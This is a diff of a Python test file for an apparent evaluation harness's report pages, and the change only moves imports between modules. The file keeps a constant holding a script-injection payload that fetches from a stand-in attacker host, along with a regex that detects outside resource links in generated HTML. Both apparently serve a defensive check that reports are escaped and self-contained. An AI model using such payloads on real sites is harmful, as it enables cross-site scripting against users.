@@ -14,11 +14,11 @@ import pytest
 
 from vibe_harness import evaluate
 from vibe_harness.errors import UserError
-from vibe_harness.pipeline.progress import Progress
-from vibe_harness.pipeline.results import Results
-from vibe_harness.pipeline.run_folder import RunFolder, RunRecord
+from vibe_harness.progress import Progress
 from vibe_harness.report.run_page import MAX_VALUES, run_page, shifts_of, write_run_page
 from vibe_harness.report.samples import may_be_passed_on, pack_samples
+from vibe_harness.store.results import Results
+from vibe_harness.store.run_folder import RunFolder, RunRecord
 
 EVIL = '<script>fetch("//evil.example")</script>'
 OUTSIDE = re.compile(r"""(?:src|href|action|srcset|data)\s*=\s*["']?(?!\#|data:)[^"'\s>]|url\((?!\#)|@import""")
@@ -33,7 +33,7 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> RunFolder:
 
 @pytest.fixture(scope="module")
 def ran(folder: RunFolder) -> tuple[Results, RunRecord]:
-    from vibe_harness.pipeline.results import read_results
+    from vibe_harness.store.results import read_results
 
     return read_results(folder.results), folder.record()
 
